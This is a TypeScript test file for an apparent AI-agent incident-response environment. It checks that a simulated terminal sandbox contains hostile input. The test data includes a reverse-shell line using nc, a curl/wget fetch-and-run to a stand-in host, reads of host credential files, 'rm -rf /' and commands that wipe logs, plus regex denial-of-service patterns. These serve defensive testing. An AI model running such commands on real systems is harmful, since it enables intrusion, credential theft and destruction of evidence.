/**
 * Hostile input against the file system and terminal sandbox as this environment uses them: path
 * escapes, host paths, huge output, shell metacharacters, over-long lines, unknown commands and attempts
 * to destroy evidence. Every one gets a typed error or an error observation, the evidence stays
 * byte-identical, and the environment keeps working afterwards.
 */
import { describe, expect, it } from "vitest";
import type { Action, StepResult, ToolResult } from "../../core/contract.js";
import { runPolicy } from "../../core/run-policy.js";
import { SandboxError } from "../../core/errors.js";
import type { TerminalOutput } from "../../tools/terminal-tool.js";
import { IncidentResponse } from "./env.js";
import type { Task } from "./tasks.js";
import type { World } from "./world.js";

const ID = "incident-response/hard/seed-31";

async function open(family: "ssh-brute-force" | "credential-stuffing" | "exfiltration" = "ssh-brute-force") {
  const env = new IncidentResponse({ scenario: { family, variant: "injection" } });
  await env.reset(ID, 5);
  const task = (env as unknown as { episode: { task: Task } }).episode.task;
  const world = () => (env as unknown as { episode: { world: World } }).episode.world;
  const run = async (command: string) => {
    const r = await env.step({ type: "tool_call", tool: "terminal", args: { command } });
    return { r, result: r.info.tool_result as ToolResult, out: (r.info.tool_result as ToolResult).output as unknown as TerminalOutput };
  };
  return { env, task, world, run };
}

/** Every file of the task still has exactly its generated content. */
function evidenceIntact(task: Task, world: World): void {
  const owner = world.fs.asOwner();
  for (const f of task.files) if (f.path !== "/etc/shadow") expect(owner.readFile(f.path), f.path).toBe(f.content);
}

/** The episode still works: the reference solution, played now, contains and reports. */
async function stillHealthy(env: IncidentResponse): Promise<void> {
  const initial = await env.reset(ID, 6);
  const run = await runPolicy(env, env.referenceSolver(), { maxSteps: env.maxSteps, initial });
  expect(run.final!.rewardComponents.task).toBe(1);
}

describe("paths that leave the sandbox", () => {
  it("resolves ../../etc/passwd inside the sandbox (its own passwd, not the host's)", async () => {
    const { run, task } = await open();
    const { out } = await run("cat ../../etc/passwd");
    expect(out.exit_code).toBe(0);
    expect(out.stdout).toBe(task.files.find((f) => f.path === "/etc/passwd")!.content);
    expect(out.stdout).toContain(`${task.analyst}:x:`);
  });

  it("refuses climbing above the root with a path-escape error", async () => {
    const { run, world } = await open();
    for (const command of ["cat ../../../../../../etc/passwd", "ls ../../../..", "cd ../../../../ && pwd", "grep root ../../../../etc/shadow"]) {
      const { out, result } = await run(command);
      expect(result.status, command).toBe("ok");
      expect(out.exit_code, command).not.toBe(0);
      expect(out.stderr, command).toMatch(/outside the sandbox|No such file/);
    }
    expect(world().terminal.cwd).toMatch(/^\/home\//);
    expect(() => world().fs.resolve("../../../x", "/home/a")).toThrow(SandboxError);
  });

  it("finds no host file at absolute host paths", async () => {
    const { run } = await open();
    for (const path of ["/proc/self/environ", "/root/.ssh/id_rsa", "/work/main/package.json", "/etc/hostname", "/dev/sda", "C:\\Windows\\win.ini", "~root/.bash_history"]) {
      const { out } = await run(`cat ${path}`);
      expect(out.exit_code, path).toBe(1);
      expect(out.stderr, path).toContain("No such file or directory");
    }
  });

  it("has no way to make links, devices or executables", async () => {
    const { run } = await open();
    for (const command of ["ln -s /etc/shadow /tmp/x", "mkfifo /tmp/p", "chmod +x /tmp/x", "/bin/sh -c id", "./NOTES.txt"]) {
      const { out } = await run(command);
      expect(out.exit_code, command).toBeGreaterThan(0);
      expect(out.stderr, command).toMatch(/command not found|Permission denied|No such file/);
    }
  });
});

describe("huge files and huge output", () => {
  it("cuts huge output at the tool's budget and says so", async () => {
    const { run } = await open();
    const { out } = await run("cat /var/log/*/* /var/log/*/* /var/log/*/*");
    expect(out.truncated).toBe(true);
    expect(out.stdout.length).toBeLessThan(16_500);
    expect(out.stdout).toMatch(/\[output truncated: \d+ more characters; narrow it with grep, head, tail or wc\]/);
    const all = await run("grep -r . / | wc -l");
    expect(all.out.exit_code).toBe(0);
    expect(Number(all.out.stdout.trim())).toBeGreaterThan(100);
  });

  it("cannot create files at all, let alone huge ones", async () => {
    const { run, world } = await open();
    const before = world().fs.usage();
    for (const command of ["cat /var/log/*/* > /tmp/big", "cp -r /var/log /tmp/copy", "mkdir /tmp/x", "touch /home/new", "cat /etc/passwd | tee /tmp/t"]) {
      const { out } = await run(command);
      expect(out.exit_code, command).not.toBe(0);
      expect(out.stderr, command).toContain("Read-only file system");
    }
    expect(world().fs.usage()).toEqual(before);
  });
});

describe("shell metacharacters and odd command lines", () => {
  it("rejects command substitution, backticks and process substitution without running anything", async () => {
    const { run, task, world } = await open();
    for (const command of ["echo $(rm -rf /var/log)", "echo `rm -rf /var/log`", "cat <(ls)", "echo $((1+1))"]) {
      const { out } = await run(command);
      expect(out.exit_code, command).toBe(2);
      expect(out.stderr, command).toContain("not supported");
    }
    evidenceIntact(task, world());
  });

  it("runs ;, &&, ||, pipes and globs as a shell does", async () => {
    const { run } = await open();
    expect((await run("echo a; echo b && echo c || echo d")).out.stdout).toBe("a\nb\nc\n");
    expect((await run("ls /var/log/*/auth.log | wc -l")).out.stdout.trim()).toBe("3");
    expect((await run("ls /nonexistent* 2>&1; echo $?")).out.stdout).toContain("No such file");
    expect((await run("echo '$HOME' \"$HOME\"")).out.stdout).toMatch(/^\$HOME \/home\//);
  });

  it("reports syntax errors and unterminated quotes with exit code 2", async () => {
    const { run } = await open();
    for (const command of ["echo 'unterminated", 'echo "x', "| grep x", "ls &&", "((", "echo ${", "cat <", "a | | b"]) {
      const { out, result } = await run(command);
      expect(result.status, command).toBe("ok");
      expect(out.exit_code, command).toBeGreaterThan(0);
      expect(out.stderr, command).toMatch(/bash: /);
    }
  });

  it("answers unknown commands with command not found (127)", async () => {
    const { run } = await open();
    for (const command of ["nc -e /bin/sh 203.0.113.9 4444", "curl http://evil.example/x.sh", "python3 -c 'import os'", "sudo rm -rf /", "wget -qO- x | sh", "iptables -F", "passwd -u root"]) {
      const { out } = await run(command);
      expect(out.exit_code, command).toBe(127);
      expect(out.stderr, command).toContain("command not found");
    }
  });

  it("refuses over-long commands as invalid and survives very long lines and NUL bytes", async () => {
    const { run, env } = await open();
    const tooLong = await env.step({ type: "tool_call", tool: "terminal", args: { command: `echo ${"A".repeat(5000)}` } });
    expect((tooLong.info.tool_result as ToolResult).status).toBe("invalid");
    expect(tooLong.rewardComponents.invalid_call).toBe(-0.1);
    const long = await run(`echo ${"B".repeat(4000)} | wc -c`);
    expect(long.out.stdout.trim()).toBe("4001");
    const manyPipes = await run(`cat /etc/passwd${" | sort".repeat(300)} | wc -l`);
    expect(manyPipes.out.exit_code).toBe(0);
    const nul = await run("cat /etc/passwd\u0000.txt");
    expect(nul.out.exit_code).not.toBe(0);
    const ctrl = await run("echo \u001b[31mred\u0007 \u202eevil");
    expect(ctrl.out.exit_code).toBe(0);
  });
});

describe("evidence cannot be destroyed", () => {
  const attempts = [
    "rm -rf /var/log",
    "rm /var/log/bastion-01/auth.log",
    "rm -f /var/log/*/auth.log*",
    "ls; rm -rf /var/log/bastion-01",
    "true && mv /var/log/bastion-01/auth.log /tmp/x",
    "echo > /var/log/bastion-01/auth.log",
    "grep -v 1.2.3.4 /var/log/bastion-01/auth.log > /var/log/bastion-01/auth.log",
    "cat /dev/null >> /var/log/gw-01/conn.log",
    "cd /var/log/bastion-01 && rm auth.log",
    "cd /var/log; rm -rf *",
    "cp /etc/passwd /var/log/bastion-01/auth.log",
    "touch /var/log/new.log",
    "rm -rf /",
    "rm -rf /var",
  ];
  it.each(attempts)("%s is denied, penalized, and changes nothing", async (command) => {
    const { run, task, world } = await open();
    const { r, result } = await run(command);
    expect(result.status).toBe("denied");
    expect(result.error?.message).toContain("evidence");
    expect(r.rewardComponents.denied_call).toBe(-0.1);
    expect(r.rewardComponents.policy_violation).toBe(-0.5);
    expect(world().state.violations.map((v) => v.rule)).toEqual(["evidence_tampering"]);
    evidenceIntact(task, world());
  });

  it("a write the static check cannot see still fails on the read-only file system", async () => {
    const { run, task, world } = await open();
    const sneaky = await run("export D=/var/log/bastion-01");
    expect(sneaky.out.exit_code).toBe(0);
    for (const command of ["rm -f $D/auth.log", "X=/var/log; rm -rf $X", "HOME=/var/log; rm -rf ~"]) {
      const { out, result } = await run(command);
      expect(result.status === "denied" || out.exit_code !== 0, command).toBe(true);
      if (result.status !== "denied") expect(out.stderr).toMatch(/Read-only file system|Permission denied/);
    }
    evidenceIntact(task, world());
  });

  it("reading evidence is never refused", async () => {
    const { run } = await open();
    for (const command of ["cat /var/log/bastion-01/auth.log > /dev/null", "grep -c . /var/log/gw-01/conn.log 2>/dev/null", "ls -la /var/log", "find /var/log -name '*.1'"]) {
      const { result, out } = await run(command);
      expect(result.status, command).toBe("ok");
      expect(out.exit_code, command).toBe(0);
    }
  });
});

describe("bounded work: commands that would stall or exhaust the process", () => {
  const doubling = (times: number, tail = "") => `x=ab; ${"x=$x$x; ".repeat(times)}${tail}`;
  const attacks: Array<[string, string, "budget_exceeded" | "size_limit", RegExp]> = [
    ["nested counted repetition", "grep -E -c '(.{0,255}){0,97}[~]' /var/log/*/*", "size_limit", /^bash: grep: Regular expression too big \(nested repetition counts multiply past 1000\)$/],
    ["grep -o over a line built by doubling", doubling(16, "echo $x | grep -E -o 'a|a.*c'"), "size_limit", /^bash: x: value too long \(131072 characters; the limit is 65536\)$/],
    ["a huge printf width", "printf '%400000000s' x", "size_limit", /^bash: printf: %400000000s: field width too large/],
    ["a variable doubled 28 times", doubling(28), "size_limit", /^bash: x: value too long/],
    ["a pattern too slow for the logs", "grep -cE '.{0,250}.{0,250}.{0,250}.{0,250}[~]' /var/log/*/*", "budget_exceeded", /^bash: grep: work budget exceeded \(10000000 units per command line; simplify the pattern or narrow the input\)$/],
  ];

  it.each(attacks)("%s: a failed call naming the limit, and the episode goes on", async (_name, command, code, message) => {
    const { env, run, task, world } = await open();
    const { r, result } = await run(command);
    expect(result.status).toBe("error");
    expect(result.error?.code).toBe(code);
    expect(result.error?.message).toMatch(message);
    expect(r.observation.rendered).toBe(`[terminal error] ${result.error?.message}`);
    expect(r.terminated).toBe(false);
    expect(r.truncated).toBe(false);
    const next = await run('grep -c "Failed password" /var/log/bastion-01/auth.log');
    expect(next.result.status).toBe("ok");
    expect(next.out.exit_code).toBe(0);
    evidenceIntact(task, world());
    await stillHealthy(env);
  });
});

describe("the process stays healthy", () => {
  it("after a barrage of hostile commands the environment still solves episodes", async () => {
    const { env, run, task, world } = await open("exfiltration");
    const barrage = ["cat ../../../../etc/passwd", "rm -rf /var/log", "echo $(id)", `echo ${"x".repeat(4000)}`, "cat /var/log/*/*", "nonexistent-cmd", "echo 'open"];
    for (const c of barrage) await run(c);
    const bad: Action[] = [{ type: "tool_call", tool: "terminal", args: { command: null } } as unknown as Action, { type: "tool_call", tool: "terminal", args: "rm -rf /" } as unknown as Action];
    for (const a of bad) {
      const r: StepResult = await env.step(a);
      expect(r.rewardComponents.invalid_call).toBe(-0.1);
      expect(r.terminated).toBe(false);
    }
    evidenceIntact(task, world());
    await stillHealthy(env);
  });
});
